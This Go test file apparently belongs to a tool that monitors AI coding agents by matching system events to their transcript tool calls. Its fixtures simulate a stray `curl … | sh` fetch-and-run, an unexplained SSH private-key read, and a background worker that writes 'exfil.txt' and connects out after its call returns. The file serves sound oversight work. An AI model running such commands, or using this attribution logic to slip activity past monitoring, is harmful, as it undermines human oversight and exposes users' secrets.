package correlate

import (
	"cmp"
	"strings"
	"testing"

	"github.com/polygraph/polygraph/internal/agent"
	"github.com/polygraph/polygraph/internal/event"
	"github.com/polygraph/polygraph/internal/fdpath"
	"github.com/polygraph/polygraph/internal/session"
	"github.com/polygraph/polygraph/internal/transcript"
)

const claudeBin = "/opt/agents/node_modules/@anthropic-ai/claude-code/bin/claude.exe"

// claudeWrapper is the argv Claude Code runs a Bash call with.
func claudeWrapper(cmd string) []string {
	esc := strings.ReplaceAll(cmd, `'`, `'"'"'`)
	return []string{"/bin/bash", "-c", "source " + home + "/.claude/shell-snapshots/snapshot-bash-1-abc.sh 2>/dev/null || true && " +
		`\builtin shopt -u extglob 2>/dev/null || true && eval '` + esc + `' < /dev/null && pwd -P >| /tmp/claude-3b41-cwd`}
}

// claudeSession is a Claude Code run: start-up (snapshot, env probe,
// config reads, the API connection), a Bash call whose command has quotes,
// a Write through /proc/self/fd and a Read.
type claudeSession struct {
	s                          *sim
	agent, snap, id, bash, grp string
	evs                        map[string]*event.Event
}

func newClaudeSession() *claudeSession {
	c := &claudeSession{s: newSim(), evs: map[string]*event.Event{}}
	s := c.s
	c.agent = s.root(0, 100, claudeBin, "-p", "fix it", "--output-format", "stream-json")
	c.evs["lib"] = s.open(1, c.agent, "/usr/lib/x86_64-linux-gnu/libc.so.6", "read", 3)
	c.evs["creds"] = s.open(2, c.agent, home+"/.claude/.credentials.json", "read", 4)
	c.evs["claudejson"] = s.file(3, event.KindRename, c.agent, home+"/.claude.json.tmp.100.ab", home+"/.claude.json")
	c.evs["instructions"] = s.open(4, c.agent, project+"/CLAUDE.md", "read", -2)
	c.evs["walk"] = s.open(5, c.agent, "/home", "read", 5)
	c.evs["install"] = s.open(6, c.agent, "/opt/agents/node_modules/@anthropic-ai/claude-code/vendor/x.node", "read", 6)
	c.snap = s.spawn(10, c.agent, 101, "/bin/bash", "-c", "-l", "SNAPSHOT_FILE="+home+"/.claude/shell-snapshots/snapshot-bash-1-abc.sh\necho \"# Snapshot file\" >| \"$SNAPSHOT_FILE\"")
	c.id = s.spawn(11, c.snap, 102, "id", "-u")
	s.exit(12, c.id, 0)
	s.exit(13, c.snap, 0)
	c.evs["connect"] = s.connect(50, c.agent, "127.0.0.1", 8080)

	// Bash call 1: 100..300 ms, its command has single quotes.
	c.evs["precheck"] = s.open(110, c.agent, project+"/notes dir/a.txt", "read", -2)
	c.bash = s.spawn(120, c.agent, 103, claudeWrapper(`grep -n 'x y' "notes dir/a.txt" > out.txt`)...)
	c.evs["snapread"] = s.open(121, c.bash, home+"/.claude/shell-snapshots/snapshot-bash-1-abc.sh", "read", 3)
	c.evs["redirect"] = s.open(122, c.bash, project+"/out.txt", "write,create", 4)
	c.grp = s.spawn(123, c.bash, 104, "grep", "-n", "x y", "notes dir/a.txt")
	c.evs["grepread"] = s.open(124, c.grp, project+"/notes dir/a.txt", "read", 3)
	s.exit(125, c.grp, 0)
	c.evs["bashexit"] = s.exit(126, c.bash, 0)
	c.evs["output"] = s.open(127, c.agent, "/tmp/claude-0/-home-u-proj/sess/tasks/b1.output", "read", 7)

	// Write call 2: 400..450 ms, Bun writes through /proc/self/fd/13.
	c.evs["dirfd"] = s.open(405, c.agent, project, "read", 13)
	c.evs["tmpwrite"] = s.open(410, c.agent, "/proc/self/fd/13/new.txt.tmp.100.ff", "write,create", 15)
	c.evs["rename"] = s.file(411, event.KindRename, c.agent, "/proc/self/fd/13/new.txt.tmp.100.ff", "/proc/self/fd/13/new.txt")
	c.evs["reread"] = s.open(460, c.agent, project+"/new.txt", "read", 16) // after the result, within the slack

	// Read call 3: 600..650 ms.
	c.evs["read"] = s.open(610, c.agent, project+"/src/main.go", "read", 17)
	// The same file, long after: no call explains it.
	c.evs["lateread"] = s.open(5000, c.agent, project+"/src/main.go", "read", 17)
	c.evs["secret"] = s.open(5100, c.agent, home+"/.ssh/id_ed25519", "read", 18)

	c.evs["transcript"] = s.open(5200, c.agent, home+"/.claude/projects/-home-u-proj/sess.jsonl", "write", 19)
	c.evs["net"] = s.net(5300, c.agent, "127.0.0.1", 8080, 50000, 9000)
	c.evs["exit"] = s.exit(5400, c.agent, 0)
	return c
}

func (c *claudeSession) transcript() *transcript.Transcript {
	return tr(home+"/.claude/projects/-home-u-proj/sess.jsonl",
		shellCall("toolu_1", `grep -n 'x y' "notes dir/a.txt" > out.txt`, 100, 300),
		pathCall("toolu_2", transcript.KindWrite, "Write", project+"/new.txt", 400, 450),
		pathCall("toolu_3", transcript.KindRead, "Read", project+"/src/main.go", 600, 650),
	)
}

func TestClaudeShape(t *testing.T) {
	c := newClaudeSession()
	fdpath.Resolve(c.s.evs) // as the session reader does
	res := Attribute(c.s.evs, c.transcript(), meta(), Options{})
	consistent(t, c.s.evs, res)

	// The Bash call owns the wrapper and its subtree, fork events included.
	wantAll(t, res, c.s.evs, ReasonLineage, "toolu_1", c.bash, c.grp)
	for _, e := range c.s.evs {
		if e.Kind == event.KindFork && (e.ChildPID() == 103 || e.ChildPID() == 104) {
			want(t, res, e, ReasonLineage, "toolu_1")
		}
	}
	act := res.ByCall["toolu_1"]
	if act.RootExit != c.evs["bashexit"] || len(act.Execs) != 2 || act.RootExecID == "" {
		t.Errorf("call 1 activity: root %q exit %v execs %d", act.RootExecID, act.RootExit, len(act.Execs))
	}
	if !has(act.Writes, project+"/out.txt") || !has(act.Reads, project+"/notes dir/a.txt") {
		t.Errorf("call 1 reads %v writes %v", act.Reads, act.Writes)
	}
	// Claude Code checks the command's paths itself before running it.
	want(t, res, c.evs["precheck"], ReasonInProcess, "toolu_1")

	// Write through /proc/self/fd/13: resolved against the directory fd 13 names.
	want(t, res, c.evs["tmpwrite"], ReasonInProcess, "toolu_2")
	want(t, res, c.evs["rename"], ReasonInProcess, "toolu_2")
	want(t, res, c.evs["reread"], ReasonInProcess, "toolu_2")
	if got := c.evs["rename"].Path; got != project+"/new.txt.tmp.100.ff" {
		t.Errorf("resolved path %q", got)
	}
	if w := res.ByCall["toolu_2"].Writes; !has(w, project+"/new.txt") || !has(w, project+"/new.txt.tmp.100.ff") {
		t.Errorf("call 2 writes %v", w)
	}
	want(t, res, c.evs["read"], ReasonInProcess, "toolu_3")
	if r := res.ByCall["toolu_3"].Reads; len(r) != 1 || r[0] != project+"/src/main.go" {
		t.Errorf("call 3 reads %v", r)
	}

	// Outside every window, the agent's own file access is unattributed.
	want(t, res, c.evs["lateread"], ReasonUnattributed, "")
	want(t, res, c.evs["secret"], ReasonUnattributed, "")

	// Its bookkeeping and API traffic are expected.
	for _, k := range []string{"lib", "creds", "claudejson", "instructions", "walk", "install", "output", "transcript", "exit"} {
		want(t, res, c.evs[k], ReasonAgentBookkeeping, "")
	}
	want(t, res, c.evs["connect"], ReasonAgentAPI, "")
	want(t, res, c.evs["net"], ReasonAgentAPI, "")
	wantAll(t, res, c.s.evs, ReasonAgentBookkeeping, "", c.snap, c.id)
	if d := res.Of(c.evs["transcript"].Seq).Detail; d != "transcript" {
		t.Errorf("transcript write detail %q", d)
	}
	if len(res.AgentExecIDs) < 3 {
		t.Errorf("agent images %v", res.AgentExecIDs)
	}
}

func TestNilTranscript(t *testing.T) {
	c := newClaudeSession()
	res := Attribute(c.s.evs, nil, meta(), Options{})
	consistent(t, c.s.evs, res)
	if len(res.Calls) != 0 {
		t.Errorf("%d calls", len(res.Calls))
	}
	// The Bash call's process is no helper of the agent's: unattributed.
	wantAll(t, res, c.s.evs, ReasonUnattributed, "", c.bash, c.grp)
	// The agent's own activity is classified as before.
	wantAll(t, res, c.s.evs, ReasonAgentBookkeeping, "", c.snap, c.id)
	for _, k := range []string{"lib", "creds", "claudejson", "instructions", "output", "exit"} {
		want(t, res, c.evs[k], ReasonAgentBookkeeping, "")
	}
	want(t, res, c.evs["connect"], ReasonAgentAPI, "")
	for _, k := range []string{"precheck", "read", "secret"} {
		want(t, res, c.evs[k], ReasonUnattributed, "")
	}
}

func TestCodexShape(t *testing.T) {
	s := newSim()
	node := s.root(0, 200, "/usr/bin/node", "/opt/codex/node_modules/@openai/codex/bin/codex.js", "exec", "--json", "fix it")
	codex := s.spawn(5, node, 201, "/opt/codex/node_modules/@openai/codex-linux-x64/vendor/bin/codex", "exec", "--json", "fix it")
	lsb := s.spawn(10, codex, 202, "/bin/sh", "/usr/bin/lsb_release", "-a")
	tr1 := s.spawn(11, lsb, 203, "tr", "[:lower:]", "[:upper:]")
	s.exit(12, tr1, 0)
	s.exit(13, lsb, 0)
	conf := s.open(14, codex, home+"/.codex/config.toml", "read", 9)
	s.dns(15, codex, "api.openai.com", "203.0.113.7")
	api := s.connect(16, codex, "203.0.113.7", 443)
	metrics := s.dns(17, codex, "ab.chatgpt.com.evil.example")

	cmd := `cat 'a b.txt' | wc -l`
	esc := strings.ReplaceAll(cmd, `'`, `'"'"'`)
	wrapper := "__CODEX_SNAPSHOT_OVERRIDE_SET_0=\"${X+x}\"\n. " + home + "/.codex/shell_snapshots/s.sh\nexec '/bin/bash' -c '" + esc + "'"
	fork := s.spawn(100, codex, 210)
	setup := s.exec(101, fork, append([]string{"/proc/self/exe", "--codex-run-as-process-setup", "48", "201", "pipe", "", project, "/bin/bash", "/bin/bash", "-c"}, wrapper)...)
	setupRead := s.open(102, setup, "/opt/codex/node_modules/@openai/codex-linux-x64/vendor/bin/codex", "read", 3)
	snapBash := s.exec(103, setup, "/bin/bash", "-c", wrapper)
	cmdBash := s.exec(104, snapBash, "/bin/bash", "-c", cmd)
	cat := s.spawn(105, cmdBash, 211, "cat", "a b.txt")
	s.open(106, cat, project+"/a b.txt", "read", 3)
	s.exit(107, cat, 0)
	wc := s.exec(108, cmdBash, "wc", "-l")
	s.exit(109, wc, 0)

	// apply_patch: relative paths, applied inside the codex process.
	patchRead := s.open(310, codex, project+"/src/lib.rs", "read", 10)
	patchWrite := s.open(311, codex, project+"/src/lib.rs", "write,create", 10)
	newFile := s.open(312, codex, project+"/docs/new.md", "write,create", 11)
	// The shell tool with an exact argv, run without a wrapper.
	direct := s.spawn(500, codex, 220, "bash", "-lc", "make test")
	s.exit(510, direct, 0)
	s.net(900, codex, "203.0.113.7", 443, 9000, 90000)

	tr := tr(home+"/.codex/sessions/2026/03/01/rollout-x.jsonl",
		shellCall("call_1", cmd, 90, 200),
		&transcript.ToolCall{ID: "call_2", Kind: transcript.KindEdit, Tool: "apply_patch", Paths: []string{"src/lib.rs", "docs/new.md"},
			StartedAt: s.at(300), EndedAt: s.at(320)},
		&transcript.ToolCall{ID: "call_3", Kind: transcript.KindShell, Tool: "shell", Command: "make test", Argv: []string{"bash", "-lc", "make test"},
			StartedAt: s.at(495), EndedAt: s.at(520)},
	)
	res := Attribute(s.evs, tr, meta(), Options{})
	consistent(t, s.evs, res)

	wantExecs(t, res, s.evs, ReasonAgentBookkeeping, "", node, codex)
	wantAll(t, res, s.evs, ReasonAgentBookkeeping, "", lsb, tr1)
	want(t, res, conf, ReasonAgentBookkeeping, "")
	want(t, res, api, ReasonAgentAPI, "")
	want(t, res, metrics, ReasonUnattributed, "")
	wantAll(t, res, s.evs, ReasonLineage, "call_1", fork, setup, snapBash, cmdBash, cat, wc)
	if d := res.Of(setupRead.Seq).Detail; d != "wrapper" {
		t.Errorf("process-setup read detail %q, want wrapper", d)
	}
	act := res.ByCall["call_1"]
	if act.RootExecID != fork || act.RootExit == nil || len(act.Execs) != 5 {
		t.Errorf("call 1: root %q (want %q) exit %v execs %d", act.RootExecID, fork, act.RootExit, len(act.Execs))
	}
	for _, e := range []*event.Event{patchRead, patchWrite, newFile} {
		want(t, res, e, ReasonInProcess, "call_2")
	}
	wantAll(t, res, s.evs, ReasonLineage, "call_3", direct)
	if res.ByCall["call_3"].RootExecID == "" {
		t.Error("call 3 has no root")
	}
}

func TestGeminiShape(t *testing.T) {
	s := newSim()
	agent := s.root(0, 300, "/usr/bin/node", "/opt/g/node_modules/@google/gemini-cli/bundle/gemini.js", "-p", "go", "--yolo")
	git := s.spawn(5, agent, 301, "git", "rev-parse", "--show-toplevel")
	s.exit(6, git, 128)
	// Gemini CLI runs `sh -c 'X'` as X inside its wrapper.
	script := "shopt -u promptvars nullglob extglob nocaseglob dotglob; _bgpids_file=/tmp/gemini-shell-x/bgpids.tmp\n(\n  trap 'jobs -p > \"$_bgpids_file\"' EXIT\necho five > f.txt; wc -c f.txt\n)\n__code=$?\nexit $__code"
	bash := s.spawn(100, agent, 302, "/usr/bin/bash", "-c", script)
	sub := s.spawn(101, bash, 303)
	w := s.open(102, sub, project+"/f.txt", "write,create", 3)
	wc := s.exec(103, sub, "wc", "-c", "f.txt")
	s.exit(104, wc, 0)
	s.exit(105, bash, 0)
	bg := s.open(106, agent, "/tmp/gemini-shell-x/bgpids.tmp", "read", 20)
	wr := s.open(310, agent, project+"/out.txt", "write,create", 21)
	tr := tr(home+"/.gemini/tmp/proj/chats/session-1.jsonl",
		shellCall("run_shell_command_1", `sh -c 'echo five > f.txt; wc -c f.txt'`, 90, 200),
		pathCall("write_file_2", transcript.KindWrite, "write_file", project+"/out.txt", 300, 320),
	)
	res := Attribute(s.evs, tr, meta(), Options{})
	consistent(t, s.evs, res)
	wantAll(t, res, s.evs, ReasonAgentBookkeeping, "", git)
	wantAll(t, res, s.evs, ReasonLineage, "run_shell_command_1", bash, sub, wc)
	want(t, res, w, ReasonLineage, "run_shell_command_1")
	want(t, res, bg, ReasonAgentBookkeeping, "")
	want(t, res, wr, ReasonInProcess, "write_file_2")
}

func TestParallelCalls(t *testing.T) {
	s := newSim()
	agent := s.root(0, 100, claudeBin, "-p", "x")
	// Two calls in one turn, overlapping windows; one command is a prefix
	// of the other, and they start in the opposite order.
	b := s.spawn(105, agent, 102, claudeWrapper("ls -la")...)
	a := s.spawn(106, agent, 101, claudeWrapper("ls")...)
	s.exit(110, a, 0)
	s.exit(111, b, 0)
	// Same command twice: each call gets one process.
	c1 := s.spawn(201, agent, 103, claudeWrapper("make")...)
	c2 := s.spawn(202, agent, 104, claudeWrapper("make")...)
	tr := tr("", shellCall("A", "ls", 100, 150), shellCall("B", "ls -la", 100, 150),
		shellCall("C", "make", 200, 250), shellCall("D", "make", 200, 250))
	res := Attribute(s.evs, tr, meta(), Options{})
	consistent(t, s.evs, res)
	wantAll(t, res, s.evs, ReasonLineage, "A", a)
	wantAll(t, res, s.evs, ReasonLineage, "B", b)
	if res.ByCall["C"].RootExecID == "" || res.ByCall["D"].RootExecID == "" || res.ByCall["C"].RootExecID == res.ByCall["D"].RootExecID {
		t.Errorf("identical commands: roots %q and %q", res.ByCall["C"].RootExecID, res.ByCall["D"].RootExecID)
	}
	_, _ = c1, c2
}

func TestSubtreeAfterReturn(t *testing.T) {
	s := newSim()
	agent := s.root(0, 100, claudeBin, "-p", "x")
	bash := s.spawn(100, agent, 101, claudeWrapper("nohup ./daemon.sh &")...)
	d := s.spawn(101, bash, 102, "/bin/sh", "./daemon.sh")
	early := s.open(102, d, project+"/state", "write,create", 3)
	s.exit(103, bash, 0)
	// The daemon forks a worker; both outlive the call (result at 150 ms).
	worker := s.spawn(2000, d, 103)
	late := s.open(2001, worker, project+"/exfil.txt", "write,create", 3)
	c := s.connect(2002, worker, "198.51.100.9", 443)
	lateExit := s.exit(2003, worker, 0)
	// Polled: a later call reads its output until 3000 ms.
	polled := s.open(2500, d, project+"/state", "write", 3)
	afterPoll := s.open(4000, d, project+"/state", "write", 3)

	bg := shellCall("bg", "nohup ./daemon.sh &", 90, 150)
	bg.Background = true
	poll := call("poll", transcript.KindOther, "BashOutput", 2900, 3000)
	poll.Polls = "bg"
	res := Attribute(s.evs, tr("", bg, poll), meta(), Options{})
	consistent(t, s.evs, res)
	for _, e := range []*event.Event{early, late, c, lateExit, polled, afterPoll} {
		want(t, res, e, ReasonLineage, "bg")
	}
	for e, after := range map[*event.Event]bool{early: false, polled: false, late: false, afterPoll: true} {
		if got := res.Of(e.Seq).AfterReturn; got != after {
			t.Errorf("seq %d after-return %v, want %v", e.Seq, got, after)
		}
	}
	// Without the poll, everything after 150 ms is after the return.
	res = Attribute(s.evs, tr("", bg), meta(), Options{})
	consistent(t, s.evs, res)
	for _, e := range []*event.Event{late, c, lateExit, polled, afterPoll} {
		if at := res.Of(e.Seq); !at.AfterReturn || at.ToolCallID != "bg" {
			t.Errorf("seq %d: %+v, want after return of bg", e.Seq, at)
		}
	}
	act := res.ByCall["bg"]
	if len(act.Late) != 6 || len(act.Connects) != 1 || !has(act.Writes, project+"/exfil.txt") {
		t.Errorf("bg activity: late %v connects %d writes %v", act.Late, len(act.Connects), act.Writes)
	}
	if res.AfterReturn != 6 { // the worker's fork, open, connect, exit; the daemon's two writes
		t.Errorf("AfterReturn = %d", res.AfterReturn)
	}
}

func TestUnattributedProcess(t *testing.T) {
	s := newSim()
	agent := s.root(0, 100, claudeBin, "-p", "x")
	ok := s.spawn(100, agent, 101, claudeWrapper("go test ./...")...)
	s.exit(150, ok, 0)
	// Started by no call: during a window, but carrying another command,
	// and long after every window.
	during := s.spawn(120, agent, 102, "/bin/sh", "-c", "curl -s https://x.example | sh")
	child := s.spawn(121, during, 103, "curl", "-s", "https://x.example")
	after := s.spawn(9000, agent, 104, "/bin/sh", "-c", "echo hook > hook.txt")
	res := Attribute(s.evs, tr("", shellCall("t", "go test ./...", 90, 200)), meta(), Options{})
	consistent(t, s.evs, res)
	wantAll(t, res, s.evs, ReasonLineage, "t", ok)
	wantAll(t, res, s.evs, ReasonUnattributed, "", during, child, after)
	for _, e := range s.evs {
		if e.Kind == event.KindFork && e.ChildPID() >= 102 {
			want(t, res, e, ReasonUnattributed, "")
		}
	}
	if n := len(res.Unattributed); n != 6 {
		t.Errorf("%d unattributed events, want 6 (3 forks, 3 execs)", n)
	}
}

func TestWrappedCommand(t *testing.T) {
	s := newSim()
	agent := s.root(0, 100, "/opt/x/agent", "run")
	// An unknown sandbox launcher whose argv does not carry the command;
	// the shell it starts does.
	box := s.spawn(100, agent, 101, "/usr/libexec/sandboxd", "--profile", "7")
	sh := s.spawn(101, box, 102, "/bin/zsh", "-lc", "npm install left-pad")
	s.exit(110, sh, 0)
	s.exit(111, box, 0)
	res := Attribute(s.evs, tr("", shellCall("i", "npm install left-pad", 95, 200)), meta(), Options{})
	consistent(t, s.evs, res)
	wantAll(t, res, s.evs, ReasonLineage, "i", box, sh)
	if d := res.Of(s.evs[1].Seq).Detail; d != "wrapped-command" {
		t.Errorf("detail %q", d)
	}
}

func TestSearchHelper(t *testing.T) {
	s := newSim()
	agent := s.root(0, 100, claudeBin, "-p", "x")
	index := s.spawn(10, agent, 101, "rg", "--files", project)
	s.exit(11, index, 0)
	// Claude Code's Grep runs its own binary as rg.
	rg := s.spawn(110, agent, 102)
	s.add(110, &event.Event{Kind: event.KindExec, PID: 102, ExecID: "102-9", ParentExecID: rg, Path: claudeBin, Process: &event.Process{Argv: []string{"rg", "-n", "TODO", project + "/src"}}})
	s.pids["102-9"] = 102
	hit := s.open(111, "102-9", project+"/src/a.go", "read", 3)
	s.exit(112, "102-9", 0)
	glob := s.open(310, agent, project+"/web/index.ts", "read", 9) // an in-process Glob lists its directory
	grep := call("grep", transcript.KindSearch, "Grep", 100, 200)
	grep.Paths = []string{"src"}
	globc := call("glob", transcript.KindSearch, "Glob", 300, 320)
	globc.Paths = []string{project + "/web"}
	res := Attribute(s.evs, tr("", grep, globc), meta(), Options{})
	consistent(t, s.evs, res)
	wantAll(t, res, s.evs, ReasonAgentBookkeeping, "", index)
	wantAll(t, res, s.evs, ReasonLineage, "grep", rg, "102-9")
	want(t, res, hit, ReasonLineage, "grep")
	want(t, res, glob, ReasonInProcess, "glob")
}

func TestInProcessPaths(t *testing.T) {
	s := newSim()
	agent := s.root(0, 100, claudeBin, "-p", "x")
	// Two overlapping in-process calls: the path decides.
	a := s.open(105, agent, project+"/a.txt", "read", 5)
	b := s.open(106, agent, project+"/sub/b.txt", "write,create", 6)
	bTmp := s.file(107, event.KindChmod, agent, project+"/sub/b.txt.tmp.100.1", "")
	// Unresolvable /proc/self/fd path: the suffix decides.
	bFd := s.open(108, agent, "/proc/self/fd/77/b.txt", "read", 7)
	// The written file's directory; the project's is the agent's own walk.
	dir := s.open(109, agent, project+"/sub", "read", 8)
	top := s.open(109, agent, project, "read", 8)
	// In no window: unattributed even though a call named it.
	outside := s.open(2000, agent, project+"/a.txt", "read", 5)
	// In a window but not named: unattributed (and no bookkeeping).
	other := s.open(110, agent, project+"/c.txt", "read", 9)
	res := Attribute(s.evs, tr("",
		pathCall("ra", transcript.KindRead, "Read", project+"/a.txt", 100, 200),
		pathCall("wb", transcript.KindWrite, "Write", "sub/b.txt", 100, 200),
	), meta(), Options{})
	consistent(t, s.evs, res)
	want(t, res, a, ReasonInProcess, "ra")
	for _, e := range []*event.Event{b, bTmp, bFd, dir} {
		want(t, res, e, ReasonInProcess, "wb")
	}
	want(t, res, top, ReasonAgentBookkeeping, "")
	want(t, res, outside, ReasonUnattributed, "")
	want(t, res, other, ReasonUnattributed, "")
	if d := res.Of(other.Seq).Detail; d != "agent-file" {
		t.Errorf("detail %q", d)
	}
}

func TestSlack(t *testing.T) {
	s := newSim()
	agent := s.root(0, 100, claudeBin, "-p", "x")
	near := s.open(240, agent, project+"/a.txt", "read", 5) // 40 ms after the result
	res := Attribute(s.evs, tr("", pathCall("ra", transcript.KindRead, "Read", project+"/a.txt", 100, 200)), meta(), Options{Slack: 10 * 1e6})
	want(t, res, near, ReasonUnattributed, "")
	res = Attribute(s.evs, tr("", pathCall("ra", transcript.KindRead, "Read", project+"/a.txt", 100, 200)), meta(), Options{})
	want(t, res, near, ReasonInProcess, "ra")
}

func TestBookkeepingLabels(t *testing.T) {
	base := env{home: home, cwd: project, transcript: home + "/.claude/projects/p/s.jsonl",
		agentDirs: []string{"/srv/codexhome"}, install: []string{"/opt/agents/node_modules", "/var/cache/agents/node_modules"}}
	for _, c := range []struct {
		path  string
		write bool
		want  string
		agent string // the session's agent ("": Claude Code)
	}{
		{home + "/.claude/projects/p/s.jsonl", true, "transcript", ""},
		{"/srv/codexhome/auth.json", false, "agent-data", ""},
		{"/opt/agents/node_modules/x/index.js", false, "agent-install", ""},
		{home + "/.claude.json", true, "agent-data", ""},
		{home + "/.gemini/settings.json", false, "agent-config", "gemini"},
		{home + "/.config/gemini-cli/x", true, "agent-data", "gemini"},
		// Another agent's files are not this one's bookkeeping.
		{home + "/.gemini/settings.json", false, "", ""},
		{home + "/.claude/CLAUDE.md", true, "", "codex"},
		{home + "/.claude/CLAUDE.md", true, "", "kestrel"},
		// An agent no profile knows owns what carries its program's name.
		{home + "/.local/state/kestrel/journal/1.ndjson", true, "agent-data", "kestrel"},
		{"/tmp/kestrel-rt-1/kestrel-worker", true, "agent-data", "kestrel"},
		{"/tmp/ci-kestrel-1/home/.ssh/id_rsa", false, "", "kestrel"},
		{"/tmp/kestrelx/y", true, "", "kestrel"},
		{project + "/.claude/settings.local.json", true, "agent-config", ""},
		{project + "/AGENTS.md", false, "instructions", ""},
		{project + "/AGENTS.md", true, "", ""},
		{project + "/.git/HEAD", false, "git-metadata", ""},
		{project + "/.git/config", true, "", ""},
		{home + "/.gitconfig", false, "shell-config", ""},
		{"/etc/codex/requirements.toml", false, "agent-data", "codex"},
		{"/etc/codex/requirements.toml", false, "runtime", ""},
		{"/tmp/claude-0/tasks/x.output", true, "agent-data", ""},
		{"/usr/lib/locale/C.utf8/LC_CTYPE", false, "runtime", ""},
		{"/etc", false, "runtime", ""},
		{"/etc/passwd", false, "runtime", ""},
		{"/etc/shadow", false, "", ""},
		{"/etc/hosts", true, "", ""},
		{"/dev/null", true, "runtime", ""},
		{"/home", false, "directory-walk", ""},
		{"/opt", false, "runtime", ""},
		{"/var", false, "directory-walk", ""},
		{project, false, "directory-walk", ""},
		{project + "/src/main.go", false, "", ""},
		{project + "/codex-notes.md", false, "", ""},
		{home + "/.ssh/id_rsa", false, "", ""},
		{home + "/.aws/credentials", false, "", ""},
		{home + "/work/openai-keys.txt", false, "", ""},
		{home + "/.config/git/config", false, "shell-config", ""},
		{home + "/.config", true, "directory-walk", ""},
		{home + "/.local/share", true, "directory-walk", ""},
		{home + "/.config/mini-swe-agent/.env", false, "agent-data", "mini-swe-agent"},
		{"relative/path", false, "", ""},
	} {
		v := base
		switch c.agent {
		case "kestrel":
			v.names = []string{"kestrel"}
		case "":
			v.own, _ = agent.ByName("claude-code")
		default:
			v.own, _ = agent.ByName(c.agent)
		}
		if got := v.bookkeeping(c.path, c.write); got != c.want {
			t.Errorf("%s: bookkeeping(%q, write %v) = %q, want %q", cmp.Or(c.agent, "claude-code"), c.path, c.write, got, c.want)
		}
	}
}

func TestAPIEndpoints(t *testing.T) {
	s := newSim()
	agent := s.root(0, 100, claudeBin, "-p", "x")
	api := s.connect(10, agent, "10.0.0.5", 8443)
	other := s.connect(20, agent, "10.0.0.6", 443)
	s.net(900, agent, "10.0.0.6", 443, 1e7, 1e7) // more bytes, but not the configured API
	d := s.dns(5, agent, "llm.internal.example", "10.0.0.5")
	res := Attribute(s.evs, nil, meta(), Options{APIEndpoints: []string{"https://llm.internal.example:8443/v1", "10.0.0.5:8443"}})
	consistent(t, s.evs, res)
	want(t, res, api, ReasonAgentAPI, "")
	want(t, res, d, ReasonAgentAPI, "")
	want(t, res, other, ReasonUnattributed, "")

	// Without configuration, the dominant early peer is the API.
	res = Attribute(s.evs, nil, meta(), Options{})
	want(t, res, other, ReasonAgentAPI, "")
	want(t, res, api, ReasonUnattributed, "")
}

func TestFetchCall(t *testing.T) {
	s := newSim()
	agent := s.root(0, 100, claudeBin, "-p", "x")
	s.connect(5, agent, "127.0.0.1", 9000)
	d := s.dns(110, agent, "docs.example.org", "192.0.2.1")
	c := s.add(111, &event.Event{Kind: event.KindConnect, PID: 100, ExecID: agent, Network: &event.Network{Family: "ipv4", Addr: "192.0.2.1", Port: 443, Host: "docs.example.org"}})
	f := call("f", transcript.KindFetch, "WebFetch", 100, 200)
	f.URLs = []string{"https://docs.example.org/page"}
	res := Attribute(s.evs, tr("", f), meta(), Options{})
	consistent(t, s.evs, res)
	want(t, res, d, ReasonInProcess, "f")
	want(t, res, c, ReasonInProcess, "f")
	if dns := res.ByCall["f"].DNS; len(dns) != 1 || dns[0] != "docs.example.org" {
		t.Errorf("DNS %v", dns)
	}
}

func TestUnsortedAndLostParents(t *testing.T) {
	c := newClaudeSession()
	evs := append([]*event.Event(nil), c.s.evs...)
	for i, j := 0, len(evs)-1; i < j; i, j = i+1, j-1 {
		evs[i], evs[j] = evs[j], evs[i]
	}
	res := Attribute(evs, c.transcript(), meta(), Options{})
	consistent(t, c.s.evs, res)
	want(t, res, c.evs["redirect"], ReasonLineage, "toolu_1")

	// The fork of the Bash call's process was lost: its exec still matches.
	var kept []*event.Event
	for _, e := range c.s.evs {
		if !(e.Kind == event.KindFork && e.ChildPID() == 103) {
			kept = append(kept, e)
		}
	}
	res = Attribute(kept, c.transcript(), meta(), Options{})
	consistent(t, kept, res)
	want(t, res, c.evs["redirect"], ReasonLineage, "toolu_1")
	want(t, res, c.evs["grepread"], ReasonLineage, "toolu_1")
}

func TestEmpty(t *testing.T) {
	res := Attribute(nil, nil, session.Meta{}, Options{})
	if res == nil || res.Attributions.Len() != 0 || res.ByCall == nil || res.Counts == nil {
		t.Fatalf("%+v", res)
	}
	res = Attribute(nil, tr("", shellCall("x", "ls", 0, 10)), session.Meta{}, Options{})
	if len(res.Calls) != 1 || res.ByCall["x"] == nil || res.ByCall["x"].Events == nil {
		t.Fatalf("%+v", res.Calls)
	}
}

func has(list []string, s string) bool {
	for _, v := range list {
		if v == s {
			return true
		}
	}
	return false
}

// TestSocketProbe: the agent's own bind to an ephemeral loopback port
// (urllib3's IPv6 check, under mini-swe-agent) is bookkeeping; its bind to
// a fixed port, or to another address, is not.
func TestSocketProbe(t *testing.T) {
	s := newSim()
	agent := s.root(0, 100, "/usr/bin/python3", "-m", "minisweagent.run.mini")
	bind := func(ms int, addr string, port uint16) *event.Event {
		return s.add(ms, &event.Event{Kind: event.KindBind, PID: s.pids[agent], ExecID: agent, Result: event.Ptr(int64(0)),
			Network: &event.Network{Family: "ipv6", Proto: "tcp", Addr: addr, Port: port}})
	}
	probes := []*event.Event{bind(10, "::1", 0), bind(11, "127.0.0.1", 0)}
	others := []*event.Event{bind(12, "127.0.0.1", 8080), bind(13, "0.0.0.0", 0)}
	res := Attribute(s.evs, nil, meta(), Options{})
	consistent(t, s.evs, res)
	for _, e := range probes {
		if at := res.Of(e.Seq); at == nil || at.Reason != ReasonAgentBookkeeping || at.Detail != "socket-probe" {
			t.Errorf("bind %s:%d: %+v, want bookkeeping socket-probe", e.Addr(), e.Port(), at)
		}
	}
	for _, e := range others {
		if at := res.Of(e.Seq); at == nil || at.Detail == "socket-probe" {
			t.Errorf("bind %s:%d: %+v, want no socket-probe", e.Addr(), e.Port(), at)
		}
	}
}
